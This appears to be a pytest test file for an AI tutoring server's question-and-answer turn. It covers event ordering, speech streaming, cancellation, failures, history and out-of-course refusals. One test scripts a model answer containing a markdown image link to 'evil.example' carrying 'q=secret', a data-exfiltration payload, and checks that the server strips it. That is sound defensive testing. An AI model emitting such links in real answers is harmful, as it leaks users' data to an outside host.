"""One turn: its events in order, exactly one ending, nothing left running."""

from __future__ import annotations

import asyncio
import dataclasses
import threading
from collections.abc import AsyncIterator, Callable
from contextlib import AbstractAsyncContextManager, asynccontextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from gpuserver.audio import wav
from gpuserver.config import Settings
from gpuserver.errors import EngineFailed, GpuServerError, NotUnderstood
from gpuserver.providers.extractive import NOT_COVERED
from gpuserver.tutor import events
from gpuserver.tutor.ai_engine import AIEngine
from gpuserver.tutor.conversation import Conversation
from gpuserver.tutor.turn import Question, Turn, TurnLimits
from gpuserver.tutor.tutoring import Tutoring
from tests.fakes import Cast, Script

EngineOf = Callable[..., AbstractAsyncContextManager[AIEngine]]

_LOUD = np.full(8000, 4000, np.int16)
LIMITS = TurnLimits(
    turn_seconds=10,
    first_token_seconds=10,
    token_seconds=10,
    audio_seconds=60,
    answer_chars=100_000,
)
CLIP = wav(_LOUD.tobytes(), 16_000)


class Record:
    """A sink that keeps everything; `gate` holds the reader back."""

    def __init__(self) -> None:
        self.events: list[events.Event] = []
        self.gate = asyncio.Event()
        self.gate.set()
        self.wrote = asyncio.Event()

    async def write(self, event: events.Event) -> None:
        await self.gate.wait()
        self.events.append(event)
        self.wrote.set()

    def of(self, kind: type[events.Event]) -> list[events.Event]:
        return [event for event in self.events if isinstance(event, kind)]

    @property
    def ended(self) -> events.Ended:
        endings = self.of(events.Ended)
        assert len(endings) == 1
        assert self.events[-1] is endings[0]
        ending = endings[0]
        assert isinstance(ending, events.Ended)
        return ending

    async def until(self, kind: type[events.Event]) -> None:
        async with asyncio.timeout(5):
            while not self.of(kind):
                self.wrote.clear()
                await self.wrote.wait()


@pytest.fixture
def engine_of(cast: Cast, make_settings: Callable[..., Settings]) -> EngineOf:
    @asynccontextmanager
    async def engine(**given: Any) -> AsyncIterator[AIEngine]:
        tutoring = await asyncio.to_thread(
            lambda: Tutoring(make_settings(**given), factory=cast.find)
        )
        await tutoring.load()
        try:
            async with tutoring.engines.lease(1) as leased:
                yield leased
        finally:
            await tutoring.close()

    return engine


def turn(engine: AIEngine, question: Question, sink: events.Sink, **given: Any) -> Turn:
    names = {field.name for field in dataclasses.fields(TurnLimits)}
    limits = replace(LIMITS, **{name: given.pop(name) for name in names & given.keys()})
    conversation = given.pop("conversation", Conversation(4))
    return Turn(engine, conversation, question, sink, kb_id=None, limits=limits, **given)


async def test_events_come_in_order_and_tell_every_stage(engine_of: EngineOf, cast: Cast) -> None:
    cast.asr.transcripts.append("what is a list")
    cast.llm.scripts.append(["A list is ordered. ", "It has items."])
    record = Record()
    async with engine_of() as engine:
        await turn(engine, Question("en", clip=CLIP, speak=True), record).run()
    kinds = [type(event).__name__ for event in record.events]
    assert kinds[:3] == ["Started", "Recognised", "Sources"]
    assert kinds.index("Sources") < kinds.index("TextDelta")
    assert kinds[-1] == "Ended"
    assert set(kinds) == {
        "Started", "Recognised", "Sources", "TextDelta", "TextDone", "SpeechChunk", "SpeechDone",
        "Ended",
    }  # fmt: skip
    assert record.ended.status == "completed"
    stages = ["transcript", "passages", "first_token", "first_clause", "first_audio", "done"]
    assert list(record.ended.timeline) == stages
    assert sorted(record.ended.timeline.values()) == list(record.ended.timeline.values())


async def test_the_first_clause_is_spoken_before_the_answer_is_complete(
    engine_of: EngineOf, cast: Cast
) -> None:
    rest = asyncio.Event()
    cast.llm.scripts.append(["A list is an ordered collection. ", "And ", rest, "it ends here."])
    record = Record()
    async with engine_of() as engine, asyncio.TaskGroup() as group:
        question = Question("en", "What is a list?", speak=True)
        group.create_task(turn(engine, question, record).run())
        await record.until(events.SpeechChunk)
        assert not record.of(events.TextDone)
        rest.set()
    assert record.ended.status == "completed"
    assert cast.tts.clauses[-2:] == ["A list is an ordered collection.", "And it ends here."]


async def test_speech_chunks_follow_each_other_without_gaps(
    engine_of: EngineOf, cast: Cast
) -> None:
    cast.llm.scripts.append(["One sentence here. ", "Another sentence there."])
    record = Record()
    async with engine_of() as engine:
        await turn(engine, Question("en", "What is a list?", speak=True), record).run()
    at = 0
    for chunk in record.of(events.SpeechChunk):
        assert isinstance(chunk, events.SpeechChunk)
        assert chunk.offset == at
        at += len(chunk.speech.pcm) // 2
    assert at == record.ended.usage["speech_samples"] > 0


async def test_a_typed_question_needs_no_voice(engine_of: EngineOf, cast: Cast) -> None:
    async with engine_of() as engine:
        spoken = list(cast.tts.clauses)
        record = Record()
        await turn(engine, Question("en", "What is a list?"), record).run()
        assert cast.tts.clauses == spoken
    assert not record.of(events.SpeechChunk)


@pytest.mark.parametrize("stage", ["recognising", "writing", "speaking"])
async def test_cancelling_leaves_nothing_running(
    engine_of: EngineOf, cast: Cast, stage: str
) -> None:
    never = asyncio.Event()
    record = Record()
    seen: type[events.Event]
    async with engine_of() as engine:
        if stage == "recognising":
            cast.asr.gate = never
            cast.asr.transcripts.append("never said")
            question, seen = Question("en", clip=CLIP, speak=True), events.Started
        else:
            script: Script = ["A sentence. ", "And ", never]
            cast.llm.scripts.append(script if stage == "writing" else script[:1])
            cast.tts.gate = never if stage == "speaking" else None
            question, seen = Question("en", "What is a list?", speak=True), events.TextDelta
        task = asyncio.create_task(turn(engine, question, record).run())
        await record.until(seen)
        await asyncio.sleep(0.05)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        assert cast.llm.running == 0
        cast.asr.gate = cast.tts.gate = None
        cast.asr.transcripts.clear()
    assert record.ended.status == "interrupted"


@pytest.mark.parametrize("where", ["asr", "llm", "tts"])
async def test_a_failing_engine_ends_the_turn_with_its_sentence(
    engine_of: EngineOf, cast: Cast, where: str
) -> None:
    failure = EngineFailed(engine=where)
    record = Record()
    async with engine_of() as engine:
        if where == "asr":
            cast.asr.transcripts.append(failure)
            question = Question("en", clip=CLIP, speak=True)
        else:
            question = Question("en", "What is a list?", speak=True)
            cast.llm.scripts.append(["A sentence. ", failure] if where == "llm" else ["Hi there."])
            cast.tts.fail = failure if where == "tts" else None
        await turn(engine, question, record).run()
        cast.tts.fail = None
    assert record.ended.status == "failed"
    assert record.ended.error is failure


async def test_a_bug_ends_the_turn_too_and_is_not_swallowed(
    engine_of: EngineOf, cast: Cast
) -> None:
    cast.llm.scripts.append(["A sentence. ", ZeroDivisionError()])
    record = Record()
    async with engine_of() as engine:
        with pytest.raises(ExceptionGroup):
            await turn(engine, Question("en", "What is a list?", speak=True), record).run()
    assert record.ended.status == "failed"
    assert isinstance(record.ended.error, GpuServerError)


async def test_a_turn_that_takes_too_long_is_stopped(engine_of: EngineOf, cast: Cast) -> None:
    cast.llm.scripts.append(["A sentence. ", asyncio.Event()])
    record = Record()
    async with engine_of() as engine:
        question = Question("en", "What is a list?")
        await turn(engine, question, record, turn_seconds=0.05).run()
    assert record.ended.error is not None
    assert record.ended.error.code == "turn_timeout"


async def test_words_that_are_not_recognised_are_no_question(
    engine_of: EngineOf, cast: Cast
) -> None:
    cast.asr.transcripts.append("")
    record = Record()
    async with engine_of() as engine:
        await turn(engine, Question("en", clip=CLIP), record).run()
    assert isinstance(record.ended.error, NotUnderstood)


async def test_silence_is_refused_before_recognition(engine_of: EngineOf, cast: Cast) -> None:
    record = Record()
    async with engine_of() as engine:
        silence = wav(bytes(32_000), 16_000)
        await turn(engine, Question("en", clip=silence), record).run()
    assert record.ended.error is not None
    assert record.ended.error.code == "no_speech"


async def test_a_slow_reader_slows_the_model_down(engine_of: EngineOf, cast: Cast) -> None:
    cast.llm.scripts.append([f"Sentence number {n}. " for n in range(200)])
    record = Record()
    async with engine_of() as engine:
        task = asyncio.create_task(turn(engine, Question("en", "What is a list?"), record).run())
        await record.until(events.TextDelta)
        record.gate.clear()
        await asyncio.sleep(0.05)
        written = len(record.events)
        await asyncio.sleep(0.05)
        assert len(record.events) == written
        record.gate.set()
        await task
    assert len(record.of(events.TextDelta)) == 200


async def test_an_answer_cut_short_is_remembered_as_far_as_it_was_written(
    engine_of: EngineOf, cast: Cast
) -> None:
    cast.llm.scripts.append(["Only this much. ", asyncio.Event()])
    conversation = Conversation(4)
    record = Record()
    async with engine_of() as engine:
        question = Question("en", "What is a list?")
        task = asyncio.create_task(turn(engine, question, record, conversation=conversation).run())
        await record.until(events.TextDelta)
        await asyncio.sleep(0)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
    assert [exchange.answer for exchange in conversation] == ["Only this much."]


async def test_the_model_gets_history_and_the_whole_question(
    engine_of: EngineOf, cast: Cast
) -> None:
    conversation = Conversation(4)
    async with engine_of() as engine:
        for question in ("What is a list?", "And how do I write one?"):
            asked = Question("en", question)
            await turn(engine, asked, Record(), conversation=conversation).run()
    first, second = cast.llm.requests[-2:]
    assert [message.role for message in first.messages] == ["system", "user"]
    assert [m.role for m in second.messages] == ["system", "user", "assistant", "user"]
    assert second.messages[1].content == "What is a list?"
    assert second.question == "And how do I write one? (Lists)"


async def test_what_finds_nothing_by_itself_is_tried_as_a_follow_up(
    engine_of: EngineOf, cast: Cast
) -> None:
    conversation = Conversation(4)
    async with engine_of() as engine:
        for question in ("What is a list?", "Do others write items?"):
            asked, record = Question("en", question), Record()
            await turn(engine, asked, record, conversation=conversation).run()
    assert cast.llm.requests[-1].question == "Do others write items? (Lists)"
    (sources,) = (e for e in record.events if isinstance(e, events.Sources))
    assert sources.passages[0].heading == "Lists"


async def test_small_talk_is_not_searched_for(engine_of: EngineOf, cast: Cast) -> None:
    record = Record()
    async with engine_of() as engine:
        await turn(engine, Question("en", "Thank you!"), record).run()
    assert not record.of(events.Sources)
    assert cast.llm.requests[-1].passages == []


CHAT = {"llm_provider": "openai", "llm_model": "m", "llm_base_url": "http://127.0.0.1:9/v1"}
OUTSIDE = "Who won the football world cup in 1998?"
NEARLY = "Which items do penguins put away?"


def texts(record: Record) -> str:
    return "".join(event.text for event in record.events if isinstance(event, events.TextDelta))


async def test_a_sentence_that_the_course_supports_gets_a_marker(
    engine_of: EngineOf, cast: Cast
) -> None:
    """The model sets none, and one that nothing supports: the turn decides."""
    said = ["A list is an ordered ", "collection of items.", " Lists were invented in 1960. [1]"]
    cast.llm.scripts.append(said)
    record = Record()
    async with engine_of() as engine:
        await turn(engine, Question("en", "What is a list?", speak=True), record).run()
    expected = "A list is an ordered collection of items. [1] Lists were invented in 1960."
    assert texts(record) == expected
    assert record.of(events.TextDone) == [events.TextDone(expected)]
    assert not any("[" in clause or "1]" in clause for clause in cast.tts.clauses)


async def test_an_answer_goes_on_without_markers_when_the_check_fails(
    engine_of: EngineOf, cast: Cast
) -> None:
    cast.llm.scripts.append(
        ["An ordered collection keeps items, such as a shopping list. [1] Yes."]
    )
    record = Record()
    async with engine_of() as engine:
        cast.embeddings.fails["shopping"] = EngineFailed(engine="embeddings")
        await turn(engine, Question("en", "What is a list?"), record).run()
    assert record.ended.status == "completed"
    assert texts(record) == "An ordered collection keeps items, such as a shopping list. Yes."


async def test_an_answer_is_interrupted_while_a_sentence_is_checked(
    engine_of: EngineOf, cast: Cast
) -> None:
    said = "An ordered collection keeps items, such as a shopping list."
    cast.llm.scripts.append([said, " And more."])
    checked = threading.Event()
    record = Record()
    async with engine_of() as engine:
        cast.embeddings.fails["shopping"] = checked
        task = asyncio.create_task(turn(engine, Question("en", "What is a list?"), record).run())
        await record.until(events.TextDelta)
        await asyncio.sleep(0.05)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        checked.set()
        await asyncio.sleep(0.05)
    assert record.ended.status == "interrupted"
    assert texts(record) == said
    assert not record.of(events.TextDone)


async def test_nothing_in_an_answer_leads_to_an_address(engine_of: EngineOf, cast: Cast) -> None:
    cast.llm.scripts.append(["Look: ![x](http://evil", ".example/?q=secret) and [here](//evil)."])
    record = Record()
    async with engine_of() as engine:
        await turn(engine, Question("en", "What is a list?"), record).run()
    assert texts(record) == "Look: x and here."


async def test_a_chat_model_is_not_asked_what_the_course_does_not_cover(
    engine_of: EngineOf, cast: Cast
) -> None:
    async with engine_of(**CHAT) as engine:
        before = len(cast.llm.requests)
        for language, question in (("en", OUTSIDE), ("zh", "谁赢了世界杯？")):
            record = Record()
            await turn(engine, Question("en", question), record).run()
            assert texts(record) == NOT_COVERED[language]  # type: ignore[index]
            assert record.ended.status == "completed"
            assert not record.of(events.Sources)
        assert len(cast.llm.requests) == before
        cast.llm.scripts.append(["You are welcome!"])
        record = Record()
        await turn(engine, Question("en", "Thank you!"), record).run()
        assert texts(record) == "You are welcome!"


async def test_what_is_near_is_shown_beside_a_refusal(engine_of: EngineOf, cast: Cast) -> None:
    async with engine_of(**CHAT) as engine:
        asked = len(cast.llm.requests)
        record = Record()
        await turn(engine, Question("en", NEARLY), record).run()
        assert len(cast.llm.requests) == asked
    (sources,) = (e for e in record.events if isinstance(e, events.Sources))
    assert not sources.passages
    assert sources.near[0].heading == "Lists"
    assert len(sources.near) <= 3
    assert "“Lists”" in texts(record)
    kinds = [type(event) for event in record.events]
    assert kinds.index(events.Sources) < kinds.index(events.TextDelta)


async def test_a_tutor_may_answer_from_general_knowledge_and_says_so_first(
    engine_of: EngineOf, cast: Cast, general_tutor: Path
) -> None:
    cast.llm.scripts.append(["France won."])
    record = Record()
    async with engine_of(**CHAT, tutors_file=general_tutor) as engine:
        await turn(engine, Question("en", OUTSIDE), record).run()
        for question in ("What is a list?", "Thank you!"):
            other = Record()
            await turn(engine, Question("en", question), other).run()
            assert not other.of(events.BeyondCourse)
    kinds = [type(event) for event in record.events]
    assert texts(record) == "France won."
    assert kinds.index(events.BeyondCourse) < kinds.index(events.TextDelta)
    assert "general knowledge" in cast.llm.requests[-3].messages[-1].content
